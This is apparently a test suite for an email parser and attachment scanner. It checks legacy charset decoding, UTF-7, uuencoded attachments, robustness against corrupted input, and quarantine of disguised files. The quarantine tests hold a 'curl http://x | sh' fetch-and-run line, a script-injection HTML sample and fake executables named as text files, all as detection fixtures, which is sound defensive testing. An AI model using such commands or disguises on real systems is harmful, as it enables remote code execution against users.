import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { inspectAttachment } from './attachment-safety/inspect-attachment.ts';
import { buildInboundMessage } from './build-inbound-message.ts';
import type { MailboxSettings } from './mailbox-settings.ts';
import { parseMail, UnparseableMailError } from './parse-mail.ts';
import type { SenderAuth } from './sender-auth/check-sender.ts';

// Mail as it arrives from the world's older and stranger clients, built byte by byte: every fixture is the exact
// bytes such a client sends (Latin-1 strings are bytes 0x00–0xFF), never a re-encoding a modern library made.

const CRLF = '\r\n';
/** Bytes from pieces: a string is taken byte for byte (Latin-1), a Buffer as it is. */
const bytes = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : p)));
const enc = (text: string, charset: string) => iconv.encode(text, charset);
const utf8 = (text: string) => Buffer.from(text, 'utf8');
const b64 = (b: Buffer) => (b.toString('base64').match(/.{1,76}/g) ?? []).join(CRLF);
const qp = (b: Buffer) => [...b].map((c) => (c >= 0x21 && c <= 0x7e && c !== 0x3d ? String.fromCharCode(c) : `=${c.toString(16).toUpperCase().padStart(2, '0')}`)).join('');
const utf7 = (text: string) => enc(text, 'utf7').toString('latin1');

describe('8-bit bytes inside RFC 2047 encoded words are read once, in the charset they are in', () => {
  it.each([
    ['UTF-8 bytes a gateway left in a Latin-1 Q word', bytes('=?iso-8859-1?Q?Fr', utf8('ö'), 'sche?=')],
    ['a raw Latin-1 byte in a Latin-1 Q word', bytes('=?iso-8859-1?Q?Fr\xF6sche?=')],
    ['raw Windows-1252 bytes in a windows-1252 Q word', bytes('=?windows-1252?Q?Fr\xF6sche?=')],
    ['raw Latin-1 bytes in a Q word folded over two lines', bytes('=?ISO-8859-1?Q?Fr\xF6?=\r\n =?ISO-8859-1?Q?sche?=')],
  ])('in the subject: %s', async (_, subject) => {
    const p = await parseMail(bytes('From: a@example.com\r\nSubject: ', subject, '\r\n\r\nbody\r\n'));
    expect(p.subject).toBe('Frösche');
  });

  it('in a display name, with Windows-1252 quotes, and next to a mailbox that needs no decoding', async () => {
    const p = await parseMail(
      bytes('From: =?windows-1252?Q?J\xFCrgen_\x93Jay\x94_M\xFCller?= <jm@example.de>\r\nTo: =?utf-8?Q?', utf8('Søren'), '?= <s@example.dk>\r\nSubject: x\r\n\r\nbody\r\n'),
    );
    expect(p.from).toEqual({ address: 'jm@example.de', name: 'Jürgen “Jay” Müller' });
    expect(p.to).toEqual([{ address: 's@example.dk', name: 'Søren' }]);
  });

  it('in an attachment name, and raw GBK bytes in a GBK word stay Chinese', async () => {
    const raw = bytes(
      'From: a@example.cn\r\nSubject: =?gbk?Q?', enc('提币', 'gbk'), '_USDT?=\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n',
      '--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nsee attached\r\n',
      '--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename="=?iso-8859-1?Q?Gr\xFC\xDFe.txt?="\r\n\r\nhello\r\n--b--\r\n',
    );
    const p = await parseMail(raw);
    expect(p.subject).toBe('提币 USDT');
    expect(p.attachments.map((a) => a.filename)).toEqual(['Grüße.txt']);
  });
});

describe('encoded words that real clients split and mislabel', () => {
  it.each([
    ['base64 words padded on their own, splitting ö', '=?UTF-8?B?ww==?= =?UTF-8?B?tg==?=', 'ö'],
    ['a Q word and a B word splitting 你', '=?utf-8?Q?=E4=BD?= =?utf-8?B?oA==?=', '你'],
    ['labels in different case splitting 你', '=?UTF-8?Q?=E4=BD?=\r\n =?utf-8?Q?=A0?=', '你'],
    ['GBK split after a lead byte, the second word padded', `=?gbk?B?${enc('钱', 'gbk').subarray(0, 1).toString('base64')}?= =?GBK?B?${enc('钱包', 'gbk').subarray(1).toString('base64')}?=`, '钱包'],
  ])('joins %s', async (_, subject, expected) => {
    expect((await parseMail(bytes(`From: a@example.com\r\nSubject: ${subject}\r\n\r\nx\r\n`))).subject).toBe(expected);
  });

  it.each([
    ['x-unknown, holding GBK', `=?x-unknown?B?${enc('账户被冻结', 'gbk').toString('base64')}?=`, '账户被冻结'],
    ['x-unknown, holding Latin-1 and GBK in two runs', `=?x-unknown?Q?Gr=FC=DFe?= / =?x-unknown?B?${enc('提币', 'gbk').toString('base64')}?=`, 'Grüße / 提币'],
  ])('reads a word with an unknown label by its bytes: %s', async (_, subject, expected) => {
    expect((await parseMail(bytes(`From: a@example.com\r\nSubject: ${subject}\r\n\r\nx\r\n`))).subject).toBe(expected);
  });

  // Aliases the parser already maps: they must keep reading right through the repairs above.
  it.each([
    ['unknown-8bit, holding Latin-1', '=?unknown-8bit?Q?Gr=FC=DFe_aus_K=F6ln?=', 'Grüße aus Köln'],
    ['cp936', `=?cp936?B?${enc('提币失败 😀', 'gb18030').toString('base64')}?=`, '提币失败 😀'],
    ['ks_c_5601-1987', `=?ks_c_5601-1987?B?${enc('출금 문의', 'euc-kr').toString('base64')}?=`, '출금 문의'],
    ['windows-874', `=?windows-874?Q?${qp(enc('ถอนเงิน', 'windows-874'))}?=`, 'ถอนเงิน'],
    ['iso-8859-8-i', `=?iso-8859-8-i?B?${enc('שלום', 'iso-8859-8').toString('base64')}?=`, 'שלום'],
    ['utf8', `=?utf8?B?${utf8('Ωmega ✓').toString('base64')}?=`, 'Ωmega ✓'],
    ['koi8-r', `=?koi8-r?B?${enc('Не могу вывести', 'koi8-r').toString('base64')}?=`, 'Не могу вывести'],
  ])('still reads a word labelled %s', async (_, subject, expected) => {
    expect((await parseMail(bytes(`From: a@example.com\r\nSubject: ${subject}\r\n\r\nx\r\n`))).subject).toBe(expected);
  });

  it('never throws on labels and payloads that make no sense', async () => {
    for (const word of ['=?utf-7?B?!!!?=', '=?x-made-up-charset?Q?=FF=FE=00?=', '=?utf-8*?Q??=', `=?${'x'.repeat(200)}?B?AAAA?=`, '=?iso-2022-kr?B?GyQpQw==?=']) {
      const p = await parseMail(bytes(`From: a@example.com\r\nSubject: ${word} tail\r\n\r\nx\r\n`));
      expect(p.subject).toMatch(/tail$/);
    }
  });
});

describe('undeclared 8-bit headers are read in the charset their bytes show', () => {
  it.each([
    ['no charset anywhere', ''],
    ['a UTF-8 body', 'Content-Type: text/plain; charset=utf-8\r\n'],
    ['a US-ASCII body', 'Content-Type: text/plain; charset=us-ascii\r\n'],
  ])('Latin-1 subject and display name, with %s', async (_, contentType) => {
    const p = await parseMail(bytes('From: "J\xFCrgen M\xFCller" <j@example.de>\r\nSubject: Fr\xF6sche und Gr\xFC\xDFe, Ren\xE9e\r\n', contentType, '\r\nbody\r\n'));
    expect(p.subject).toBe('Frösche und Grüße, Renée');
    expect(p.from).toEqual({ address: 'j@example.de', name: 'Jürgen Müller' });
  });

  it('Windows-1252 quotes, dashes and the euro sign', async () => {
    const p = await parseMail(bytes('From: a@example.com\r\nSubject: \x93Refund\x94 \x96 it\x92s \x8050\r\n\r\nbody\r\n'));
    expect(p.subject).toBe('“Refund” – it’s €50');
  });

  it('a Latin-1 attachment name in a part header', async () => {
    const raw = bytes(
      'From: a@example.com\r\nContent-Type: multipart/mixed; boundary="p"\r\n\r\n',
      '--p\r\nContent-Type: text/plain\r\n\r\nsiehe Anhang\r\n',
      '--p\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="Kontoausz\xFCge M\xE4rz.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n',
      b64(Buffer.from('%PDF-1.4')), '\r\n--p--\r\n',
    );
    expect((await parseMail(raw)).attachments.map((a) => a.filename)).toEqual(['Kontoauszüge März.pdf']);
  });

  it.each([
    ['KOI8-R', 'koi8-r', 'Иван Петров', 'Не могу вывести средства'],
    ['Shift_JIS', 'shift_jis', '山田太郎', '出金について'],
    ['Windows-1251', 'windows-1251', 'Ольга', 'Здравствуйте, проблема'],
    ['Big5', 'big5', '許功蓋', '提款問題：對帳單'],
  ])('still reads raw %s headers with the charset the body declares', async (_, charset, name, subject) => {
    const raw = bytes('From: "', enc(name, charset), '" <c@example.com>\r\nSubject: ', enc(subject, charset), `\r\nContent-Type: text/plain; charset=${charset}\r\n\r\n`, enc('ok', charset), '\r\n');
    const p = await parseMail(raw);
    expect(p.subject).toBe(subject);
    expect(p.from?.name).toBe(name);
  });

  it('raw KOI8-R headers when the message declares Latin-1 and KOI8-R parts: the bytes decide', async () => {
    const raw = bytes(
      'From: "', enc('Иван Петров', 'koi8-r'), '" <ivan@example.ru>\r\nSubject: ', enc('Не могу вывести средства', 'koi8-r'), '\r\nContent-Type: multipart/alternative; boundary="k"\r\n\r\n',
      '--k\r\nContent-Type: text/plain; charset=iso-8859-1\r\n\r\nhello\r\n--k\r\nContent-Type: text/html; charset=koi8-r\r\n\r\n<p>', enc('привет', 'koi8-r'), '</p>\r\n--k--\r\n',
    );
    const p = await parseMail(raw);
    expect(p.subject).toBe('Не могу вывести средства');
    expect(p.from?.name).toBe('Иван Петров');
  });

  it('raw Big5 headers when only an encoded word elsewhere names Big5', async () => {
    const raw = bytes('From: "', enc('陳大文', 'big5'), `" <chan@example.hk>\r\nTo: =?big5?B?${enc('客服', 'big5').toString('base64')}?= <support@walletdesk.local>\r\nSubject: `, enc('帳戶被凍結', 'big5'), '\r\n\r\nhi\r\n');
    const p = await parseMail(raw);
    expect(p.subject).toBe('帳戶被凍結');
    expect(p.from?.name).toBe('陳大文');
  });

  it.each([
    ['账户安全', '李四'],
    ['我用USDT提币失败', '王鑫'],
    ['充值未到账，朱镕基 😀', '张伟'],
  ])('undeclared GBK headers stay Chinese: %s', async (subject, name) => {
    const raw = bytes('From: ', enc(name, 'gb18030'), ' <c@example.cn>\r\nSubject: ', enc(subject, 'gb18030'), '\r\n\r\nhello\r\n');
    const p = await parseMail(raw);
    expect(p.subject).toBe(subject);
    expect(p.from?.name).toBe(name);
  });
});

describe('undeclared and wrongly labelled 8-bit bodies are read in the charset their bytes show', () => {
  const mail = (contentType: string | null, transfer: string, body: Buffer) =>
    bytes('From: a@example.com\r\nSubject: body\r\n', contentType === null ? '' : `Content-Type: ${contentType}\r\n`, `Content-Transfer-Encoding: ${transfer}\r\n\r\n`, transfer === 'base64' ? b64(body) : transfer === 'quoted-printable' ? qp(body) : body, '\r\n');

  it.each([
    ['no Content-Type, Latin-1', null, '8bit', 'Grüße aus Köln, café crème', 'latin1'],
    ['text/plain without charset, Windows-1252', 'text/plain', '8bit', '“Withdrawal” failed – 50 € … it’s stuck', 'windows-1252'],
    ['no charset, GBK', 'text/plain', '8bit', '您好，我的提币一直没有到账，请帮忙查一下。', 'gbk'],
    ['no charset, GB18030 in base64', 'text/plain', 'base64', '表情 😀，扩展B区 𠀀', 'gb18030'],
    ['labelled UTF-8, Latin-1 in quoted-printable', 'text/plain; charset=utf-8', 'quoted-printable', 'Überweisung fehlgeschlagen, bitte prüfen', 'latin1'],
    ['labelled US-ASCII, UTF-8', 'text/plain; charset=us-ascii', '8bit', 'Ça ne marche pas — 提币失败', 'utf8'],
    ['an unknown label, GBK in base64', 'text/plain; charset="x-user-charset"', 'base64', '账户被冻结了，怎么办？', 'gbk'],
  ])('%s', async (_, contentType, transfer, text, charset) => {
    expect((await parseMail(mail(contentType, transfer, enc(text, charset)))).text.trimEnd()).toBe(text);
  });

  it('an HTML body without charset, in Windows-1252', async () => {
    const p = await parseMail(mail('text/html', '8bit', enc('<p>That’s “odd” – 5 €, Grüße</p>', 'windows-1252')));
    expect(p.html?.trimEnd()).toBe('<p>That’s “odd” – 5 €, Grüße</p>');
  });

  // Labels the parser already maps: they must keep reading right through the repairs above.
  it.each([
    ['unknown-8bit', 'latin1', 'Mañana, señor'],
    ['cp936', 'gbk', '你好，世界'],
    ['x-gbk', 'gbk', '账户被冻结了'],
    ['ks_c_5601-1987', 'euc-kr', '안녕하세요, 출금 문의'],
    ['windows-874', 'windows-874', 'สวัสดีครับ'],
    ['iso-8859-8-i', 'iso-8859-8', 'שלום, בעיה במשיכה'],
    ['utf8', 'utf8', 'Grüße 提币'],
    ['windows1252', 'windows-1252', '“quoted” – €'],
    ['latin-1', 'latin1', 'Grüße'],
  ])('still reads a body labelled %s', async (label, encoder, text) => {
    expect((await parseMail(mail(`text/plain; charset=${label}`, '8bit', enc(text, encoder)))).text.trimEnd()).toBe(text);
  });
});

describe('UTF-7, as old Outlook sends it', () => {
  it.each([
    ['utf-7', '7bit'],
    ['unicode-1-1-utf-7', '7bit'],
    ['UTF-7', 'quoted-printable'],
    ['x-unicode-2-0-utf-7', 'base64'],
  ])('decodes a body labelled %s (%s)', async (label, transfer) => {
    const text = 'Grüße, 我的提币失败了 – €50 + fees';
    const body = enc(text, 'utf7');
    const encoded = transfer === 'base64' ? b64(body) : transfer === 'quoted-printable' ? qp(body) : body.toString('latin1');
    const p = await parseMail(bytes(`From: a@example.com\r\nSubject: x\r\nContent-Type: text/plain; charset=${label}\r\nContent-Transfer-Encoding: ${transfer}\r\n\r\n${encoded}\r\n`));
    expect(p.text.trimEnd()).toBe(text);
  });

  it('decodes UTF-7 encoded words in the subject and display name, and an HTML body', async () => {
    const raw = bytes(
      `From: =?utf-7?Q?${utf7('Jürgen Müller').replace(/ /g, '_')}?= <j@example.de>\r\n`,
      `Subject: =?UTF-7?B?${enc('提币失败 Frösche', 'utf7').toString('base64')}?=\r\n`,
      `Content-Type: text/html; charset=utf-7\r\n\r\n${utf7('<p>Grüße – 你好</p>')}\r\n`,
    );
    const p = await parseMail(raw);
    expect(p.from).toEqual({ address: 'j@example.de', name: 'Jürgen Müller' });
    expect(p.subject).toBe('提币失败 Frösche');
    expect(p.html?.trimEnd()).toBe('<p>Grüße – 你好</p>');
  });
});

// A uuencoded file, as `uuencode` writes it.
function uuencode(name: string, content: Buffer): string {
  const lines = [`begin 644 ${name}`];
  const char = (v: number) => (v === 0 ? '`' : String.fromCharCode(v + 32));
  for (let at = 0; at < content.length; at += 45) {
    const chunk = content.subarray(at, at + 45);
    let line = char(chunk.length);
    for (let i = 0; i < chunk.length; i += 3) {
      const [a = 0, b = 0, c = 0] = [chunk[i], chunk[i + 1], chunk[i + 2]];
      line += char(a >> 2) + char(((a & 3) << 4) | (b >> 4)) + char(((b & 15) << 2) | (c >> 6)) + char(c & 63);
    }
    lines.push(line);
  }
  lines.push('`', 'end');
  return lines.join(CRLF);
}

describe('uuencoded files become attachments', () => {
  const statement = Buffer.from('%PDF-1.4\n' + 'x'.repeat(200) + '\n%%EOF\n');
  const csv = Buffer.from('date,asset,amount\n2025-11-01,USDT,100\n');

  it('takes a block inside a text/plain body out of the text, as an attachment with its name and bytes', async () => {
    const raw = bytes('From: a@example.com\r\nSubject: statement\r\n\r\nHello,\r\nmy statement:\r\n\r\n', uuencode('statement.pdf', statement), '\r\n\r\nThanks, Li\r\n');
    const p = await parseMail(raw);
    expect(p.text).toBe('Hello,\nmy statement:\n\n\nThanks, Li\n');
    expect(p.attachments.map((a) => [a.filename, Buffer.from(a.content).equals(statement), a.inline])).toEqual([['statement.pdf', true, false]]);
  });

  it('takes two blocks out of a quoted-printable Latin-1 body, whose words stay right', async () => {
    const body = bytes('Gr\xFC\xDFe,\r\n', uuencode('a.csv', csv), '\r\nund\r\n', uuencode('C:\\Users\\li\\b.pdf', statement), '\r\nEnde\r\n');
    const raw = bytes('From: a@example.com\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\nContent-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n', qp(body).replace(/=0D=0A/g, '=0D=0A=\r\n'), '\r\n--m--\r\n');
    const p = await parseMail(raw);
    expect(p.text.replace(/\n+/g, ' ').trim()).toBe('Grüße, und Ende');
    expect(p.attachments.map((a) => [a.filename, Buffer.from(a.content).toString('latin1')])).toEqual([['a.csv', csv.toString('latin1')], ['b.pdf', statement.toString('latin1')]]);
  });

  it.each(['x-uuencode', 'uuencode', 'x-uue'])('decodes a part sent with Content-Transfer-Encoding %s', async (cte) => {
    const raw = bytes(
      'From: a@example.com\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary="u"\r\n\r\n--u\r\nContent-Type: text/plain\r\n\r\nsee the file\r\n',
      `--u\r\nContent-Type: application/octet-stream; name="records.csv"\r\nContent-Transfer-Encoding: ${cte}\r\n\r\n`, uuencode('records.csv', csv), '\r\n--u--\r\n',
    );
    const p = await parseMail(raw);
    expect(p.text.trimEnd()).toBe('see the file');
    expect(p.attachments.map((a) => [a.filename, Buffer.from(a.content).toString()])).toEqual([['records.csv', csv.toString()]]);
  });

  it('names an x-uuencode text part after its begin line and makes it an attachment, not text', async () => {
    const raw = bytes('From: a@example.com\r\nSubject: x\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\n', uuencode('records.csv', csv), '\r\n');
    const p = await parseMail(raw);
    expect(p.text).toBe('');
    expect(p.attachments.map((a) => [a.filename, Buffer.from(a.content).toString()])).toEqual([['records.csv', csv.toString()]]);
  });

  it('leaves prose that only looks like a begin line in the text', async () => {
    const text = 'begin 644 was the mode I set\nThen nothing happened.\nend\n';
    const p = await parseMail(bytes('From: a@example.com\r\nSubject: x\r\n\r\n', text));
    expect(p.text).toBe(text);
    expect(p.attachments).toEqual([]);
  });

  it('holds a uuencoded program in quarantine like any other attachment', async () => {
    const program = Buffer.alloc(256);
    program.write('MZ', 0, 'latin1');
    program.writeUInt32LE(0x80, 0x3c);
    program.write('PE\0\0', 0x80, 'latin1');
    const raw = bytes('From: a@example.com\r\nSubject: invoice\r\n\r\nplease open\r\n', uuencode('invoice.txt', program), '\r\n');
    const parsed = await parseMail(raw);
    const auth: SenderAuth = { spf: 'none', dkim: 'none', dmarc: 'none', arc: 'none', unverified_sender: true, header_from_domain: 'example.com' } as SenderAuth;
    const settings = { resolver: {} as MailboxSettings['resolver'], trustedAuthservIds: [] } satisfies MailboxSettings;
    const envelope = { id: 1, source: 'smtp' as const, remote_address: '127.0.0.1', helo: 'x', mail_from: 'a@example.com' };
    const message = buildInboundMessage(envelope, parsed, parsed.from!, auth, settings);
    expect(message.text.trim()).toBe('please open');
    expect(message.attachments).toMatchObject([{ filename: 'invoice.txt', detectedType: 'pe', quarantineReason: expect.stringMatching(/Windows executable/) }]);
  });
});

// RFC 2231 values are decoded by the parser itself; these keep it so through the header repairs.
describe('RFC 2231 file names with a charset keep reading right', () => {
  it.each([
    ['Latin-1 continuations', "filename*0*=iso-8859-1''Gr%FC%DFe%20;\r\n filename*1*=aus%20K%F6ln.txt", 'Grüße aus Köln.txt'],
    ['GBK continuations split mid-character', `filename*0*=gbk''${[...enc('对账单', 'gbk').subarray(0, 3)].map((b) => `%${b.toString(16)}`).join('')};\r\n filename*1*=${[...enc('对账单.pdf', 'gbk').subarray(3)].map((b) => `%${b.toString(16)}`).join('')}`, '对账单.pdf'],
    ['a cp936 label', `filename*=cp936''${[...enc('截图.png', 'gbk')].map((b) => `%${b.toString(16)}`).join('')}`, '截图.png'],
    ['Windows-1252 under a Latin-1 label', "filename*=iso-8859-1''%93Re%94%20%96%20%80.txt", '“Re” – €.txt'],
  ])('%s', async (_, param, expected) => {
    const raw = bytes('From: a@example.com\r\nContent-Type: multipart/mixed; boundary="r"\r\n\r\n--r\r\nContent-Type: text/plain\r\n\r\nx\r\n--r\r\nContent-Type: application/octet-stream\r\n', `Content-Disposition: attachment; ${param}\r\n\r\ndata\r\n--r--\r\n`);
    expect((await parseMail(raw)).attachments.map((a) => a.filename)).toEqual([expected]);
  });
});

describe('text attachments in legacy encodings are text, and disguised programs are still caught', () => {
  const csv = 'Empfänger;Währung;Betrag;Status\n01.11.2025;EUR;100,00 €;abgelehnt: Konto gesperrt – siehe „Hinweis“\n02.11.2025;USDT;50,00;erledigt, René\n';
  const expectText = (filename: string, content: Buffer, detectedType: string) =>
    expect(inspectAttachment({ filename, declaredType: 'application/octet-stream', content })).toEqual({ detectedType, quarantined: false, reason: null });

  it.each([
    ['konto.csv', csv, 'windows-1252', 'csv'],
    ['konto.csv', csv.replace(/[€–„“]/g, '-'), 'latin1', 'csv'],
    ['lettre.txt', 'Bonjour, mon retrait a échoué. Merci, José à Zürich; Señor Müller.', 'latin1', 'text'],
    ['quote.txt', 'He said “it’s gone” – 200 € lost…', 'windows-1252', 'text'],
    ['明細.csv', '日付,摘要,金額\n2025/11/01,ｶﾞｿﾘﾝ ｽﾀﾝﾄﾞ,5000\n2025/11/02,出金 ﾃｽﾄ,100\n', 'shift_jis', 'csv'],
    ['письмо.txt', 'Здравствуйте! Не могу вывести средства с кошелька.', 'koi8-r', 'text'],
    ['письмо.txt', 'Здравствуйте! Не могу вывести средства с кошелька.', 'windows-1251', 'text'],
  ])('recognises %s in %s as text', (filename, text, charset, detectedType) => {
    expectText(filename, enc(text, charset), detectedType);
  });

  it.each([
    ['记录.csv', '时间,币种,数量\n2025-11-01,USDT,100\n', 'gbk', 'csv'],
    ['说明.txt', '我的账户被盗了，请帮我冻结账户。', 'gbk', 'text'],
    ['記錄.csv', '日期,幣種,數量\n2025-11-01,USDT,100\n2025-11-02,BTC,0.5\n', 'big5', 'csv'],
    ['メモ.txt', '出金ができません。ご確認ください。口座番号：１２３４', 'shift_jis', 'text'],
    ['안내.txt', '안녕하세요, 출금이 안 됩니다.', 'euc-kr', 'text'],
  ])('still recognises %s in %s as text', (filename, text, charset, detectedType) => {
    expectText(filename, enc(text, charset), detectedType);
  });

  it.each([
    ['utf-16le', Buffer.concat([Buffer.from([0xff, 0xfe]), enc('Grüße, 你好\r\n', 'utf16le')])],
    ['utf-16be', Buffer.concat([Buffer.from([0xfe, 0xff]), enc('Grüße, 你好\r\n', 'utf16be')])],
  ])('still recognises a text file in %s with its BOM', (_, content) => {
    expect(inspectAttachment({ filename: 'notes.txt', declaredType: 'text/plain', content })).toEqual({ detectedType: 'text', quarantined: false, reason: null });
  });

  it('still quarantines a program, a script, an HTML page and binary noise named .txt', () => {
    const pe = Buffer.alloc(256);
    pe.write('MZ', 0, 'latin1');
    pe.writeUInt32LE(0x80, 0x3c);
    pe.write('PE\0\0', 0x80, 'latin1');
    const noise = Buffer.from(Array.from({ length: 4096 }, (_, i) => 0x80 + ((i * 7919 + 13) % 128)));
    const controls = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i % 9 === 0 ? 0x01 + (i % 7) : 0xc0 + (i % 60))));
    for (const [content, reason] of [
      [pe, /Windows executable/],
      [enc('#!/bin/sh\necho "Grüße"\ncurl http://x | sh\n', 'latin1'), /script/],
      [enc('<html><body>Grüße <script>alert(1)</script></body></html>', 'windows-1252'), /HTML/],
      [noise, /unrecognised binary/],
      [controls, /unrecognised binary/],
    ] as const) {
      const result = inspectAttachment({ filename: 'readme.txt', declaredType: 'text/plain', content });
      expect(result.quarantined, result.reason ?? '').toBe(true);
      expect(result.reason).toMatch(reason);
    }
  });

  it('reads a Latin-1 CSV attachment as the text it is, for what the message refers to', async () => {
    const raw = bytes(
      'From: a@example.com\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary="c"\r\n\r\n--c\r\nContent-Type: text/plain\r\n\r\nsee csv\r\n',
      '--c\r\nContent-Type: text/csv\r\nContent-Disposition: attachment; filename="k.csv"\r\nContent-Transfer-Encoding: base64\r\n\r\n', b64(enc('Empfänger;Betrag\nMüller;100\nSchröder;50\n', 'latin1')), '\r\n--c--\r\n',
    );
    const parsed = await parseMail(raw);
    const auth = { spf: 'none', dkim: 'none', dmarc: 'none', arc: 'none', unverified_sender: true, header_from_domain: 'example.com' } as SenderAuth;
    const settings = { resolver: {} as MailboxSettings['resolver'], trustedAuthservIds: [] } satisfies MailboxSettings;
    const message = buildInboundMessage({ id: 1, source: 'smtp', remote_address: '127.0.0.1', helo: 'x', mail_from: 'a@example.com' }, parsed, parsed.from!, auth, settings);
    expect(message.attachments[0]).toMatchObject({ filename: 'k.csv', detectedType: 'csv', quarantineReason: null });
    expect(message.attachmentTexts).toEqual(['Empfänger;Betrag\nMüller;100\nSchröder;50\n']);
  });
});

describe('the repairs never make mail unreadable or slow', () => {
  it('never throws anything but a parse refusal on corrupted copies of these mails', async () => {
    const base = bytes(
      'From: =?windows-1252?Q?J\xFCrgen?= <j@example.de>\r\nSubject: Fr\xF6sche =?utf-7?Q?+AOQ-?= =?UTF-8?B?ww==?= =?UTF-8?B?tg==?=\r\n',
      'Content-Type: multipart/mixed; boundary="z"\r\n\r\n--z\r\nContent-Type: text/plain\r\n\r\nGr\xFC\xDFe\r\n', uuencode('a.csv', Buffer.from('a,b\n1,2\n')), '\r\n',
      '--z\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n', utf7('提币 Grüße'), '\r\n--z\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\n', uuencode('b.bin', Buffer.from([0, 1, 2, 250])), '\r\n--z--\r\n',
    );
    let seed = 11;
    const rand = () => (seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32;
    const variants = [base];
    for (let cut = 1; cut < base.length; cut += 23) variants.push(base.subarray(0, cut));
    for (let i = 0; i < 200; i++) {
      const copy = Buffer.from(base);
      for (let k = 0; k < 6; k++) copy[Math.floor(rand() * copy.length)] = Math.floor(rand() * 256);
      variants.push(copy);
    }
    for (const raw of variants) {
      const p = await parseMail(raw).catch((err: unknown) => (err instanceof UnparseableMailError ? null : Promise.reject(err)));
      if (p) expect(typeof p.text).toBe('string');
    }
  });

  // Every header is now looked at for encoded words and labels: near-misses of each pattern, 4 times the size,
  // must take about 4 times as long, not 16 (the best of three runs, to ride out a busy machine).
  it.each([
    ['RFC 2231 parameter near-misses', (n: number) => 'Subject: ' + 'a*=a'.repeat(n)],
    ['encoded-word near-misses', (n: number) => 'Subject: ' + '=?a*'.repeat(n)],
    ['words in an unknown charset', (n: number) => 'Subject: ' + '=?zz?Q?=E4?= '.repeat(n / 3)],
    ['charset parameter near-misses', (n: number) => 'Content-Type: text/plain' + ';charset='.repeat(n / 2)],
  ])('stays linear on %s', async (_, header) => {
    const time = async (n: number) => {
      const raw = Buffer.from(`From: a@example.com\r\n${header(n)}\r\n\r\nbody\r\n`, 'latin1');
      let best = Infinity;
      for (let i = 0; i < 3; i++) {
        const start = performance.now();
        await parseMail(raw).catch(() => null);
        best = Math.min(best, performance.now() - start);
      }
      return best;
    };
    await time(1000); // warm up: the charset tables are built once
    // Small enough that a quadratic pattern fails in seconds rather than blocking the run for minutes.
    const small = await time(12_500);
    const large = await time(50_000);
    expect(large / Math.max(small, 1)).toBeLessThan(10);
  });
});
